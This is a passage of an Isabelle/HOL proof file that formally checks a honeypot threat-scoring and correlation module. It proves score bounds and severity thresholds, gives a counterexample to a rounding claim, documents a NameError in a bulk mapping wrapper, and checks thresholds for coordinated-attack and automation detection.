  with w have "s = take i s @ w @ t \<and> lang ic r w" by simp
  then show "\<exists>u w v. s = u @ w @ v \<and> lang ic r w" by blast
next
  assume "\<exists>u w v. s = u @ w @ v \<and> lang ic r w"
  then obtain u w v where s: "s = u @ w @ v" and l: "lang ic r w" by blast
  from l have "v \<in> set (rests ic r (w @ v))" by (auto simp: rests_iff)
  then have "rests ic r (drop (length u) s) \<noteq> []" using s by auto
  moreover have "length u \<le> length s" using s by simp
  ultimately show "re_search ic r s" by (auto simp: re_search_drop)
qed

lemma re_search_context: "re_search ic r s \<Longrightarrow> re_search ic r (u @ s @ v)"
proof -
  assume "re_search ic r s"
  then obtain a w b where "s = a @ w @ b" "lang ic r w" by (auto simp: re_search_iff)
  then have "u @ s @ v = (u @ a) @ w @ (b @ v) \<and> lang ic r w" by simp
  then show ?thesis unfolding re_search_iff[of ic r "u @ s @ v"] by blast
qed

text \<open>\<open>lower_char\<close> on the printable characters, as a table for the simplifier.\<close>

lemma lower_char_ascii:
  "lower_char (CHR '' '') = CHR '' ''"
  "lower_char (CHR ''!'') = CHR ''!''"
  "lower_char (CHR 0x22) = CHR 0x22"
  "lower_char (CHR ''#'') = CHR ''#''"
  "lower_char (CHR ''$'') = CHR ''$''"
  "lower_char (CHR ''%'') = CHR ''%''"
  "lower_char (CHR ''&'') = CHR ''&''"
  "lower_char (CHR 0x27) = CHR 0x27"
  "lower_char (CHR ''('') = CHR ''(''"
  "lower_char (CHR '')'') = CHR '')''"
  "lower_char (CHR ''*'') = CHR ''*''"
  "lower_char (CHR ''+'') = CHR ''+''"
  "lower_char (CHR '','') = CHR '',''"
  "lower_char (CHR ''-'') = CHR ''-''"
  "lower_char (CHR ''.'') = CHR ''.''"
  "lower_char (CHR ''/'') = CHR ''/''"
  "lower_char (CHR ''0'') = CHR ''0''"
  "lower_char (CHR ''1'') = CHR ''1''"
  "lower_char (CHR ''2'') = CHR ''2''"
  "lower_char (CHR ''3'') = CHR ''3''"
  "lower_char (CHR ''4'') = CHR ''4''"
  "lower_char (CHR ''5'') = CHR ''5''"
  "lower_char (CHR ''6'') = CHR ''6''"
  "lower_char (CHR ''7'') = CHR ''7''"
  "lower_char (CHR ''8'') = CHR ''8''"
  "lower_char (CHR ''9'') = CHR ''9''"
  "lower_char (CHR '':'') = CHR '':''"
  "lower_char (CHR '';'') = CHR '';''"
  "lower_char (CHR ''<'') = CHR ''<''"
  "lower_char (CHR ''='') = CHR ''=''"
  "lower_char (CHR ''>'') = CHR ''>''"
  "lower_char (CHR ''?'') = CHR ''?''"
  "lower_char (CHR ''@'') = CHR ''@''"
  "lower_char (CHR ''A'') = CHR ''a''"
  "lower_char (CHR ''B'') = CHR ''b''"
  "lower_char (CHR ''C'') = CHR ''c''"
  "lower_char (CHR ''D'') = CHR ''d''"
  "lower_char (CHR ''E'') = CHR ''e''"
  "lower_char (CHR ''F'') = CHR ''f''"
  "lower_char (CHR ''G'') = CHR ''g''"
  "lower_char (CHR ''H'') = CHR ''h''"
  "lower_char (CHR ''I'') = CHR ''i''"
  "lower_char (CHR ''J'') = CHR ''j''"
  "lower_char (CHR ''K'') = CHR ''k''"
  "lower_char (CHR ''L'') = CHR ''l''"
  "lower_char (CHR ''M'') = CHR ''m''"
  "lower_char (CHR ''N'') = CHR ''n''"
  "lower_char (CHR ''O'') = CHR ''o''"
  "lower_char (CHR ''P'') = CHR ''p''"
  "lower_char (CHR ''Q'') = CHR ''q''"
  "lower_char (CHR ''R'') = CHR ''r''"
  "lower_char (CHR ''S'') = CHR ''s''"
  "lower_char (CHR ''T'') = CHR ''t''"
  "lower_char (CHR ''U'') = CHR ''u''"
  "lower_char (CHR ''V'') = CHR ''v''"
  "lower_char (CHR ''W'') = CHR ''w''"
  "lower_char (CHR ''X'') = CHR ''x''"
  "lower_char (CHR ''Y'') = CHR ''y''"
  "lower_char (CHR ''Z'') = CHR ''z''"
  "lower_char (CHR ''['') = CHR ''[''"
  "lower_char (CHR 0x5C) = CHR 0x5C"
  "lower_char (CHR '']'') = CHR '']''"
  "lower_char (CHR ''^'') = CHR ''^''"
  "lower_char (CHR ''_'') = CHR ''_''"
  "lower_char (CHR 0x60) = CHR 0x60"
  "lower_char (CHR ''a'') = CHR ''a''"
  "lower_char (CHR ''b'') = CHR ''b''"
  "lower_char (CHR ''c'') = CHR ''c''"
  "lower_char (CHR ''d'') = CHR ''d''"
  "lower_char (CHR ''e'') = CHR ''e''"
  "lower_char (CHR ''f'') = CHR ''f''"
  "lower_char (CHR ''g'') = CHR ''g''"
  "lower_char (CHR ''h'') = CHR ''h''"
  "lower_char (CHR ''i'') = CHR ''i''"
  "lower_char (CHR ''j'') = CHR ''j''"
  "lower_char (CHR ''k'') = CHR ''k''"
  "lower_char (CHR ''l'') = CHR ''l''"
  "lower_char (CHR ''m'') = CHR ''m''"
  "lower_char (CHR ''n'') = CHR ''n''"
  "lower_char (CHR ''o'') = CHR ''o''"
  "lower_char (CHR ''p'') = CHR ''p''"
  "lower_char (CHR ''q'') = CHR ''q''"
  "lower_char (CHR ''r'') = CHR ''r''"
  "lower_char (CHR ''s'') = CHR ''s''"
  "lower_char (CHR ''t'') = CHR ''t''"
  "lower_char (CHR ''u'') = CHR ''u''"
  "lower_char (CHR ''v'') = CHR ''v''"
  "lower_char (CHR ''w'') = CHR ''w''"
  "lower_char (CHR ''x'') = CHR ''x''"
  "lower_char (CHR ''y'') = CHR ''y''"
  "lower_char (CHR ''z'') = CHR ''z''"
  "lower_char (CHR ''{'') = CHR ''{''"
  "lower_char (CHR ''|'') = CHR ''|''"
  "lower_char (CHR ''}'') = CHR ''}''"
  "lower_char (CHR ''~'') = CHR ''~''"
  by (simp_all add: lower_char_def capitals_def smalls_def)


subsection \<open>Threat scoring\<close>

lemma attack_type_scores_nonneg: "map_of ATTACK_TYPE_SCORES k = Some v \<Longrightarrow> 0 \<le> v"
proof -
  assume a: "map_of ATTACK_TYPE_SCORES k = Some v"
  have "\<forall>(k, v) \<in> set ATTACK_TYPE_SCORES. 0 \<le> v"
    by (simp add: ATTACK_TYPE_SCORES_def)
  with map_of_SomeD[OF a] show ?thesis by auto
qed

lemma high_risk_nonneg: "map_of HIGH_RISK_COUNTRIES k = Some v \<Longrightarrow> 0 \<le> v"
proof -
  assume a: "map_of HIGH_RISK_COUNTRIES k = Some v"
  have "\<forall>(k, v) \<in> set HIGH_RISK_COUNTRIES. 0 \<le> v"
    by (simp add: HIGH_RISK_COUNTRIES_def)
  with map_of_SomeD[OF a] show ?thesis by auto
qed

lemma assess_sophistication_nonneg: "0 \<le> assess_sophistication e"
  by (simp add: assess_sophistication_def Let_def)

lemma assess_ip_reputation_nonneg: "0 \<le> assess_ip_reputation e"
  by (simp add: assess_ip_reputation_def Let_def)

lemma assess_temporal_patterns_nonneg: "0 \<le> assess_temporal_patterns f e"
  by (simp add: assess_temporal_patterns_def Let_def split: option.splits)

lemma py_int_nonneg: "0 \<le> x \<Longrightarrow> 0 \<le> py_int x"
  by (simp add: py_int_def)

lemma py_int_floor: "0 \<le> x \<Longrightarrow> py_int x = \<lfloor>x\<rfloor>"
  by (simp add: py_int_def)

text \<open>The sum the final score is cut from, read off the breakdown.\<close>

lemma breakdown_fields:
  "threat_score (calculate_score f e) = final_score (breakdown (calculate_score f e))"
  "severity (calculate_score f e) = score_to_severity (threat_score (calculate_score f e))"
  by (simp_all add: calculate_score_def Let_def)

lemma breakdown_nonneg:
  "0 \<le> attack_type_score (breakdown (calculate_score f e))"
  "0 \<le> sophistication_score (breakdown (calculate_score f e))"
  "0 < success_multiplier (breakdown (calculate_score f e))"
  "0 \<le> ip_reputation_score (breakdown (calculate_score f e))"
  "0 \<le> geo_risk_score (breakdown (calculate_score f e))"
  "0 \<le> temporal_score (breakdown (calculate_score f e))"
  by (auto simp: calculate_score_def Let_def assess_sophistication_nonneg
        assess_ip_reputation_nonneg assess_temporal_patterns_nonneg
      split: option.splits dest: attack_type_scores_nonneg high_risk_nonneg)

lemma final_score_eq:
  "final_score (breakdown (calculate_score f e)) =
     min 100 (py_int (score_sum (breakdown (calculate_score f e))))"
  by (simp add: calculate_score_def Let_def score_sum_def add.assoc)

lemma score_sum_nonneg: "0 \<le> score_sum (breakdown (calculate_score f e))"
proof -
  let ?b = "breakdown (calculate_score f e)"
  have 1: "(0::rat) \<le> of_int (attack_type_score ?b + sophistication_score ?b)"
    using breakdown_nonneg(1,2)[of f e] by simp
  have 2: "(0::rat) \<le> success_multiplier ?b"
    using breakdown_nonneg(3)[of f e] by simp
  have 3: "(0::rat) \<le> of_int (ip_reputation_score ?b)"
    using breakdown_nonneg(4)[of f e] by simp
  have 4: "(0::rat) \<le> of_int (geo_risk_score ?b)"
    using breakdown_nonneg(5)[of f e] by simp
  have 5: "(0::rat) \<le> of_int (temporal_score ?b)"
    using breakdown_nonneg(6)[of f e] by simp
  from 1 2 have 6: "(0::rat) \<le> of_int (attack_type_score ?b + sophistication_score ?b) * success_multiplier ?b"
    by (rule mult_nonneg_nonneg)
  from 6 3 4 5 show ?thesis unfolding score_sum_def by linarith
qed

lemma final_score_range:
  "0 \<le> final_score (breakdown (calculate_score f e)) \<and> final_score (breakdown (calculate_score f e)) \<le> 100"
proof -
  have "0 \<le> final_score (breakdown (calculate_score f e))"
    unfolding final_score_eq using py_int_nonneg[OF score_sum_nonneg[of f e]] by simp
  moreover have "final_score (breakdown (calculate_score f e)) \<le> 100"
    unfolding final_score_eq by simp
  ultimately show ?thesis by simp
qed

lemma score_to_severity_thresholds:
  "score_to_severity s =
     (if s < 26 then ''low'' else if s \<le> 50 then ''medium'' else if s \<le> 75 then ''high''
      else ''critical'')"
  by (simp add: score_to_severity_def)

lemma score_to_severity_mono:
  "a \<le> b \<Longrightarrow> severity_rank (score_to_severity a) \<le> severity_rank (score_to_severity b)"
  by (simp add: score_to_severity_def severity_rank_def)

lemma floor_75_2: "\<lfloor>75 / 2 :: rat\<rfloor> = 37"
  by (simp add: floor_eq_iff)

lemma ls_command_parts:
  "identify_attack_type ls_command_event = ''command_execution''"
  "assess_sophistication ls_command_event = 0"
  "is_successful_attack ls_command_event"
  "assess_ip_reputation ls_command_event = 0"
  "assess_temporal_patterns f ls_command_event = 0"
  "geo_country_code ls_command_event = None"
  by (simp_all add: identify_attack_type_def assess_sophistication_def is_successful_attack_def
        assess_ip_reputation_def assess_temporal_patterns_def ls_command_event_def
        empty_event_def lower_def lower_char_ascii COMMAND_PATTERNS_def is_space_def)

lemma score_of_command_execution: "map_of ATTACK_TYPE_SCORES ''command_execution'' = Some 25"
  by (simp add: ATTACK_TYPE_SCORES_def)

lemma ls_command_breakdown:
  "breakdown (calculate_score f ls_command_event) =
    \<lparr>base_score = 0, attack_type_score = 25, sophistication_score = 0,
     success_multiplier = 3 / 2, ip_reputation_score = 0, geo_risk_score = 0,
     temporal_score = 0, final_score = 37\<rparr>"
  by (simp add: calculate_score_def Let_def ls_command_parts score_of_command_execution
        py_int_def floor_75_2)

lemma login_success_parts:
  "identify_attack_type login_success_event = ''brute_force_success''"
  "assess_sophistication login_success_event = 0"
  "is_successful_attack login_success_event"
  "assess_ip_reputation login_success_event = 20"
  "assess_temporal_patterns f login_success_event = 0"
  "geo_country_code login_success_event = None"
  by (simp_all add: identify_attack_type_def assess_sophistication_def is_successful_attack_def
        assess_ip_reputation_def assess_temporal_patterns_def login_success_event_def
        empty_event_def lower_def)

lemma score_of_brute_force_success: "map_of ATTACK_TYPE_SCORES ''brute_force_success'' = Some 40"
  by (simp add: ATTACK_TYPE_SCORES_def)

lemma login_success_score:
  "calculate_score f login_success_event =
     \<lparr>threat_score = 80, severity = ''critical'', attack_type = ''brute_force_success'',
      breakdown = \<lparr>base_score = 0, attack_type_score = 40, sophistication_score = 0,
                    success_multiplier = 3 / 2, ip_reputation_score = 20, geo_risk_score = 0,
                    temporal_score = 0, final_score = 80\<rparr>,
      recommendations = generate_recommendations 80 ''brute_force_success''\<rparr>"
  by (simp add: calculate_score_def Let_def login_success_parts score_of_brute_force_success
        py_int_def score_to_severity_def)

text \<open>
  Claim C1 (as amended). The specification gives the final score as the rounded, clamped
  sum. The code cuts the fraction off with \<^verbatim>\<open>int\<close> instead: for every event the final
  score is the floor of the sum of the reported sub-scores, clamped to \<open>0..100\<close>, and it is
  the threat score returned.
\<close>

theorem final_score_truncates:
  "final_score (breakdown (calculate_score f e)) =
     clamp 0 100 \<lfloor>score_sum (breakdown (calculate_score f e))\<rfloor> \<and>
   threat_score (calculate_score f e) = final_score (breakdown (calculate_score f e))"
proof -
  define x where "x = score_sum (breakdown (calculate_score f e))"
  have nn: "0 \<le> x" unfolding x_def by (rule score_sum_nonneg)
  have fl: "0 \<le> \<lfloor>x\<rfloor>" using nn by simp
  have "final_score (breakdown (calculate_score f e)) = min 100 (py_int x)"
    unfolding x_def by (rule final_score_eq)
  also have "\<dots> = min 100 \<lfloor>x\<rfloor>" using py_int_floor[OF nn] by simp
  also have "\<dots> = clamp 0 100 \<lfloor>x\<rfloor>" using fl unfolding clamp_def by linarith
  finally have main: "final_score (breakdown (calculate_score f e)) = clamp 0 100 \<lfloor>x\<rfloor>" .
  show ?thesis using main breakdown_fields(1)[of f e] unfolding x_def by blast
qed

text \<open>
  The claim as written fails on a plain command event: the attack type scores 25, the
  multiplier is 1.5, the sum is 37.5; the code returns 37 where rounding gives 38.
\<close>

theorem final_score_rounding_counterexample:
  "final_score (breakdown (calculate_score (table_parser []) ls_command_event)) = 37 \<and>
   spec_final_score (breakdown (calculate_score (table_parser []) ls_command_event)) = 38"
  by (simp add: ls_command_breakdown spec_final_score_def score_sum_def py_round_def clamp_def Let_def floor_75_2)

text \<open>
  Claim C2. For every event the final score lies in \<open>0..100\<close>, and the severity label is
  a function of the final score alone: low below 26, medium from 26 to 50, high from 51
  to 75, critical from 76 on; the label never falls when the score grows.
\<close>

theorem score_range_and_severity:
  "0 \<le> final_score (breakdown (calculate_score f e)) \<and>
   final_score (breakdown (calculate_score f e)) \<le> 100 \<and>
   threat_score (calculate_score f e) = final_score (breakdown (calculate_score f e)) \<and>
   severity (calculate_score f e) = score_to_severity (final_score (breakdown (calculate_score f e))) \<and>
   (\<forall>s. score_to_severity s =
      (if s < 26 then ''low'' else if s \<le> 50 then ''medium'' else if s \<le> 75 then ''high''
       else ''critical'')) \<and>
   (\<forall>a b. a \<le> b \<longrightarrow> severity_rank (score_to_severity a) \<le> severity_rank (score_to_severity b))"
  using final_score_range[of f e] breakdown_fields[of f e] score_to_severity_thresholds
    score_to_severity_mono
  by simp

theorem score_range_and_severity_witness:
  "final_score (breakdown (calculate_score (table_parser []) ls_command_event)) = 37 \<and>
   severity (calculate_score (table_parser []) ls_command_event) = ''medium'' \<and>
   severity_rank (score_to_severity 37) \<le> severity_rank (score_to_severity 80)"
proof -
  have le: "(37::int) \<le> 80" by simp
  from score_range_and_severity[of "table_parser []" ls_command_event]
  have sev: "severity (calculate_score (table_parser []) ls_command_event) =
      score_to_severity (final_score (breakdown (calculate_score (table_parser []) ls_command_event)))"
    and mono: "\<forall>a b. a \<le> b \<longrightarrow> severity_rank (score_to_severity a) \<le> severity_rank (score_to_severity b)"
    by blast+
  from mono le have "severity_rank (score_to_severity 37) \<le> severity_rank (score_to_severity 80)"
    by blast
  with sev show ?thesis
    by (simp add: ls_command_breakdown score_to_severity_def)
qed

text \<open>
  Claim C3. The event with id \<^verbatim>\<open>cowrie.login.success\<close>, empty input, a block-listed
  address and nothing else is classified as \<^verbatim>\<open>brute_force_success\<close>; its attack-type score is
  40, its multiplier 1.5, its reputation score 20, its final score 80 and its severity
  critical, whatever the time-stamp parser.
\<close>

theorem login_success_example:
  "attack_type (calculate_score f login_success_event) = ''brute_force_success'' \<and>
   attack_type_score (breakdown (calculate_score f login_success_event)) = 40 \<and>
   success_multiplier (breakdown (calculate_score f login_success_event)) = 3 / 2 \<and>
   ip_reputation_score (breakdown (calculate_score f login_success_event)) = 20 \<and>
   final_score (breakdown (calculate_score f login_success_event)) = 80 \<and>
   threat_score (calculate_score f login_success_event) = 80 \<and>
   severity (calculate_score f login_success_event) = ''critical''"
  by (simp add: login_success_score)

subsection \<open>The bulk wrapper\<close>

lemma instantiate_MitreMapper: "instantiate ''MitreMapper'' = Inl (NameError ''MitreMapper'')"
  by (simp add: instantiate_def module_classes_def)

lemma map_to_mitre_bulk_None:
  "map_to_mitre_bulk None evs = (Inl (NameError ''MitreMapper''), None)"
  by (simp add: map_to_mitre_bulk_def instantiate_MitreMapper)

lemma bulk_calls_None:
  "bulk_calls None calls = replicate (length calls) (Inl (NameError ''MitreMapper''))"
  by (induction calls) (simp_all add: map_to_mitre_bulk_None)

text \<open>
  Claim C10. From the state the module sets up (\<^verbatim>\<open>_mapper_instance\<close> is \<^verbatim>\<open>None\<close>), a call of
  \<^verbatim>\<open>map_to_mitre_bulk\<close> raises \<^verbatim>\<open>NameError\<close> for the name \<^verbatim>\<open>MitreMapper\<close> on every list of
  events, the empty list too, and leaves the state as it was; so does every later call.
  The module has no class of that name; the class it has, \<^verbatim>\<open>MitreAttackMapper\<close>, has no
  method \<^verbatim>\<open>map_to_mitre\<close>.
\<close>

theorem map_to_mitre_bulk_raises:
  "map_to_mitre_bulk None evs = (Inl (NameError ''MitreMapper''), None) \<and>
   map_to_mitre_bulk None [] = (Inl (NameError ''MitreMapper''), None) \<and>
   bulk_calls None calls = replicate (length calls) (Inl (NameError ''MitreMapper'')) \<and>
   map_of module_classes ''MitreMapper'' = None \<and>
   map_of module_classes ''MitreAttackMapper'' =
     Some [''map_event'', ''get_attack_chain'', ''generate_attack_narrative''] \<and>
   call_map_to_mitre ''MitreAttackMapper'' e = Inl (AttributeError ''map_to_mitre'')"
  by (simp add: map_to_mitre_bulk_None bulk_calls_None module_classes_def call_map_to_mitre_def)

subsection \<open>Coordinated attacks\<close>

text \<open>
  Claim C8. When the aggregation returns one bucket for each of exactly six distinct
  source addresses, \<^verbatim>\<open>detect_coordinated_attacks\<close> returns exactly one finding, with pattern
  \<^verbatim>\<open>multiple_sources\<close>, confidence \<^verbatim>\<open>medium\<close> and the count 6; with five or fewer it returns the
  empty list.
\<close>

theorem coordinated_attack_threshold:
  assumes "es_aggregate env (coordination_query env utcnow w) = Inr ip_buckets"
    and "distinct (map bucket_key ip_buckets)"
  shows "(card (bucket_key ` set ip_buckets) = 6 \<longrightarrow>
            (\<exists>f. detect_coordinated_attacks env utcnow w = Inr [f] \<and>
                 f_pattern f = ''multiple_sources'' \<and> f_confidence f = ''medium'' \<and>
                 f_ip_count f = 6)) \<and>
         (card (bucket_key ` set ip_buckets) \<le> 5 \<longrightarrow>
            detect_coordinated_attacks env utcnow w = Inr [])"
proof -
  from assms(2) have len: "card (bucket_key ` set ip_buckets) = length ip_buckets"
    using distinct_card[of "map bucket_key ip_buckets"] by simp
  show ?thesis
    unfolding len using assms(1)
    by (simp add: detect_coordinated_attacks_def Let_def)
qed

theorem coordinated_attack_threshold_witness:
  "(\<exists>f. detect_coordinated_attacks (fixed_store (Inr []) (Inr []) (Inr []) (Inr six_buckets) []) 0 None = Inr [f] \<and>
        f_pattern f = ''multiple_sources'' \<and> f_confidence f = ''medium'' \<and> f_ip_count f = 6) \<and>
   detect_coordinated_attacks (fixed_store (Inr []) (Inr []) (Inr []) (Inr (take 5 six_buckets)) []) 0 None = Inr []"
proof -
  let ?e6 = "fixed_store (Inr []) (Inr []) (Inr []) (Inr six_buckets) []"
  let ?e5 = "fixed_store (Inr []) (Inr []) (Inr []) (Inr (take 5 six_buckets)) []"
  have a6: "es_aggregate ?e6 (coordination_query ?e6 0 None) = Inr six_buckets"
    by (simp add: fixed_store_def)
  have d6: "distinct (map bucket_key six_buckets)" by (simp add: six_buckets_def)
  have c6: "card (bucket_key ` set six_buckets) = 6" by (simp add: six_buckets_def)
  have a5: "es_aggregate ?e5 (coordination_query ?e5 0 None) = Inr (take 5 six_buckets)"
    by (simp add: fixed_store_def)
  have d5: "distinct (map bucket_key (take 5 six_buckets))" by (simp add: six_buckets_def)
  have c5: "card (bucket_key ` set (take 5 six_buckets)) \<le> 5" by (simp add: six_buckets_def)
  from coordinated_attack_threshold[OF a6 d6] c6 coordinated_attack_threshold[OF a5 d5] c5
  show ?thesis by blast
qed

subsection \<open>Correlation by address\<close>

lemma correlate_events:
  "cowrie (events (correlate_by_ip env utcnow ip tr)) =
     query_cowrie_by_ip env ip (fst (effective_range utcnow tr)) (snd (effective_range utcnow tr))"
  "dionaea (events (correlate_by_ip env utcnow ip tr)) =
     query_dionaea_by_ip env ip (fst (effective_range utcnow tr)) (snd (effective_range utcnow tr))"
  "snort (events (correlate_by_ip env utcnow ip tr)) =
     query_snort_by_ip env ip (fst (effective_range utcnow tr)) (snd (effective_range utcnow tr))"
  "total_events (summary (correlate_by_ip env utcnow ip tr)) =
     length (cowrie (events (correlate_by_ip env utcnow ip tr))) +
     length (dionaea (events (correlate_by_ip env utcnow ip tr))) +
     length (snort (events (correlate_by_ip env utcnow ip tr)))"
  by (simp_all add: correlate_by_ip_def Let_def)

text \<open>
  Claim C7. For every address and time range, when exactly one of the three searches of
  the store raises, \<^verbatim>\<open>correlate_by_ip\<close> returns a result in which the failing source has
  the empty list, each other source has the list its search returned, and the total is the
  sum of the three lengths.
\<close>

theorem correlate_by_ip_one_source_fails:
  assumes "effective_range utcnow tr = (start_time, end_time)"
    and "rc = es_search env (cowrie_query env ip start_time end_time)"
    and "rd = es_search env (dionaea_query env ip start_time end_time)"
    and "rs = es_search env (snort_query env ip start_time end_time)"
    and "length (filter isl [rc, rd, rs]) = 1"
    and "r = correlate_by_ip env utcnow ip tr"
  shows "(\<forall>err. rc = Inl err \<longrightarrow> cowrie (events r) = []) \<and>
         (\<forall>evs. rc = Inr evs \<longrightarrow> cowrie (events r) = evs) \<and>
         (\<forall>err. rd = Inl err \<longrightarrow> dionaea (events r) = []) \<and>
         (\<forall>evs. rd = Inr evs \<longrightarrow> dionaea (events r) = evs) \<and>
         (\<forall>err. rs = Inl err \<longrightarrow> snort (events r) = []) \<and>
         (\<forall>evs. rs = Inr evs \<longrightarrow> snort (events r) = evs) \<and>
         total_events (summary r) =
           length (cowrie (events r)) + length (dionaea (events r)) + length (snort (events r))"
proof -
  have c: "cowrie (events r) = (case rc of Inl err \<Rightarrow> [] | Inr evs \<Rightarrow> evs)"
    using assms(1,2,6) by (simp add: correlate_events query_cowrie_by_ip_def)
  have d: "dionaea (events r) = (case rd of Inl err \<Rightarrow> [] | Inr evs \<Rightarrow> evs)"
    using assms(1,3,6) by (simp add: correlate_events query_dionaea_by_ip_def)
  have s: "snort (events r) = (case rs of Inl err \<Rightarrow> [] | Inr evs \<Rightarrow> evs)"
    using assms(1,4,6) by (simp add: correlate_events query_snort_by_ip_def)
  have t: "total_events (summary r) =
           length (cowrie (events r)) + length (dionaea (events r)) + length (snort (events r))"
    using assms(6) by (simp add: correlate_events)
  from c d s t show ?thesis by simp
qed


lemma fixed_store_search:
  "es_search (fixed_store rc rd rs ra tbl) (cowrie_query env ip s e) = rc"
  "es_search (fixed_store rc rd rs ra tbl) (dionaea_query env ip s e) = rd"
  "es_search (fixed_store rc rd rs ra tbl) (snort_query env ip s e) = rs"
  by (simp_all add: fixed_store_def cowrie_query_def dionaea_query_def snort_query_def)

theorem correlate_by_ip_one_source_fails_witness:
  "cowrie (events (correlate_by_ip
      (fixed_store (Inl StoreError) (Inr [wget_event]) (Inr [login_success_event, ls_command_event])
         (Inr []) []) 0 ''203.0.113.7'' None)) = [] \<and>
   dionaea (events (correlate_by_ip
      (fixed_store (Inl StoreError) (Inr [wget_event]) (Inr [login_success_event, ls_command_event])
         (Inr []) []) 0 ''203.0.113.7'' None)) = [wget_event] \<and>
   snort (events (correlate_by_ip
      (fixed_store (Inl StoreError) (Inr [wget_event]) (Inr [login_success_event, ls_command_event])
         (Inr []) []) 0 ''203.0.113.7'' None)) = [login_success_event, ls_command_event] \<and>
   total_events (summary (correlate_by_ip
      (fixed_store (Inl StoreError) (Inr [wget_event]) (Inr [login_success_event, ls_command_event])
         (Inr []) []) 0 ''203.0.113.7'' None)) = 3"
proof -
  let ?env = "fixed_store (Inl StoreError) (Inr [wget_event])
                (Inr [login_success_event, ls_command_event]) (Inr []) []"
  let ?r = "correlate_by_ip ?env 0 ''203.0.113.7'' None"
  have range: "effective_range 0 None = (0 - 24 * 3600, 0)"
    by (simp add: effective_range_def)
  have one: "length (filter isl
      [es_search ?env (cowrie_query ?env ''203.0.113.7'' (0 - 24 * 3600) 0),
       es_search ?env (dionaea_query ?env ''203.0.113.7'' (0 - 24 * 3600) 0),
       es_search ?env (snort_query ?env ''203.0.113.7'' (0 - 24 * 3600) 0)]) = 1"
    unfolding fixed_store_search by simp
  note th = correlate_by_ip_one_source_fails[OF range refl refl refl one refl]
  from th have c: "cowrie (events ?r) = []"
    unfolding fixed_store_search by blast
  from th have d: "dionaea (events ?r) = [wget_event]"
    unfolding fixed_store_search by blast
  from th have s: "snort (events ?r) = [login_success_event, ls_command_event]"
    unfolding fixed_store_search by blast
  from th have t: "total_events (summary ?r) =
      length (cowrie (events ?r)) + length (dionaea (events ?r)) + length (snort (events ?r))"
    by blast
  from c d s t show ?thesis by simp
qed

subsection \<open>Attacker profiles\<close>

lemma twelve_ts:
  "concat (map (\<lambda>e. truthy (timestamp e)) twelve_events) = map fst twelve_stamps"
  by (simp add: twelve_events_def twelve_stamps_def stamp_def shell_event_at_def truthy_def empty_event_def)

lemma replace_Z_plain: "CHR ''Z'' \<notin> set s \<Longrightarrow> replace_Z s = s"
  by (induction s) (auto simp: replace_Z_def)

lemma twelve_intervals:
  "intervals_of fa (table_parser twelve_stamps) (map fst twelve_stamps) =
     Inr [fl_quotient fa 3, fl_quotient fa 1, fl_quotient fa (23 / 10), fl_quotient fa (17 / 10),
          fl_quotient fa (21 / 10), fl_quotient fa (19 / 10), fl_quotient fa 2, fl_quotient fa 2,
          fl_quotient fa 2, fl_quotient fa 2, fl_quotient fa 2]"
  by (simp add: twelve_stamps_def stamp_def table_parser_def replace_Z_plain)

text \<open>The doubles of 0.3 and of 3, as \<^verbatim>\<open>float.as_integer_ratio\<close> gives them.\<close>

lemma round_double_examples:
  "round_double (3 / 10) = 5404319552844595 / 18014398509481984"
  "round_double 3 = 3"
  by code_simp+

lemma ieee_quotient: "fl_quotient ieee_double = round_double"
  by (simp add: ieee_double_def)

text \<open>In doubles the variance of the twelve events is the double nearest to 0.2.\<close>

lemma twelve_variance:
  "variance ieee_double
     [round_double 3, round_double 1, round_double (23 / 10), round_double (17 / 10),
      round_double (21 / 10), round_double (19 / 10), round_double 2, round_double 2,
      round_double 2, round_double 2, round_double 2] =
   3602879701896397 / 18014398509481984"
  by code_simp

text \<open>
  In doubles the variance of the seven events is \<open>1 - 3 / 2^53\<close>, which Python prints as
  \<^verbatim>\<open>0.9999999999999997\<close>: below 1, where the exact variance is 1.
\<close>

lemma seven_ts:
  "concat (map (\<lambda>e. truthy (timestamp e)) seven_events) = map fst seven_stamps"
  by (simp add: seven_events_def seven_stamps_def stamp_def shell_event_at_def truthy_def
        empty_event_def)

lemma seven_intervals:
  "intervals_of fa (table_parser seven_stamps) (map fst seven_stamps) =
     Inr [fl_quotient fa (3 / 10), fl_quotient fa (23 / 10), fl_quotient fa (3 / 10),
          fl_quotient fa (23 / 10), fl_quotient fa (3 / 10), fl_quotient fa (23 / 10)]"
  by (simp add: seven_stamps_def stamp_def table_parser_def replace_Z_plain)

lemma seven_variance:
  "variance ieee_double
     [round_double (3 / 10), round_double (23 / 10), round_double (3 / 10),
      round_double (23 / 10), round_double (3 / 10), round_double (23 / 10)] =
   9007199254740989 / 9007199254740992"
  by code_simp

lemma seven_events_automated:
  "analyze_automation ieee_double (table_parser seven_stamps) seven_events = Inr True"
proof -
  have l: "length seven_events = 7" by (simp add: seven_events_def seven_stamps_def)
  have n: "length seven_stamps = 7" by (simp add: seven_stamps_def)
  show ?thesis
    unfolding analyze_automation_def Let_def seven_ts seven_intervals ieee_quotient
    by (simp add: l n seven_variance)
qed

lemma two_ts:
  "concat (map (\<lambda>e. truthy (timestamp e)) two_events) =
     [''2024-01-01T00:00:00'', ''2024-01-01T00:00:03'']"
  by (simp add: two_events_def twelve_events_def twelve_stamps_def stamp_def shell_event_at_def
        truthy_def empty_event_def)

lemma two_intervals:
  "intervals_of fa (table_parser twelve_stamps) [''2024-01-01T00:00:00'', ''2024-01-01T00:00:03''] =
     Inr [fl_quotient fa 3]"
  by (simp add: twelve_stamps_def stamp_def table_parser_def replace_Z_plain)

lemma two_variance: "variance ieee_double [round_double 3] = 0"
  by code_simp

lemma intervals_of_nonempty:
  "intervals_of fa parse ts = Inr ds \<Longrightarrow> 2 \<le> length ts \<Longrightarrow> ds \<noteq> []"
proof -
  assume r: "intervals_of fa parse ts = Inr ds" and l: "2 \<le> length ts"
  from l obtain a b rest where "ts = a # b # rest"
    by (cases ts; cases "tl ts") auto
  with r show "ds \<noteq> []"
    by (auto split: option.splits if_splits sum.splits)
qed

lemma analyze_automation_Inr:
  "analyze_automation fa parse evs = Inr a \<Longrightarrow>
     a = (length evs > 5 \<and> length (concat (map (\<lambda>e. truthy (timestamp e)) evs)) \<ge> 2 \<and>
          (\<exists>ds. intervals_of fa parse (concat (map (\<lambda>e. truthy (timestamp e)) evs)) = Inr ds \<and>
                variance fa ds < 1))"
  by (auto simp: analyze_automation_def Let_def split: if_splits sum.splits
        dest: intervals_of_nonempty)

lemma analyze_automation_returns:
  "length evs \<le> 5 \<or> length (concat (map (\<lambda>e. truthy (timestamp e)) evs)) < 2 \<or>
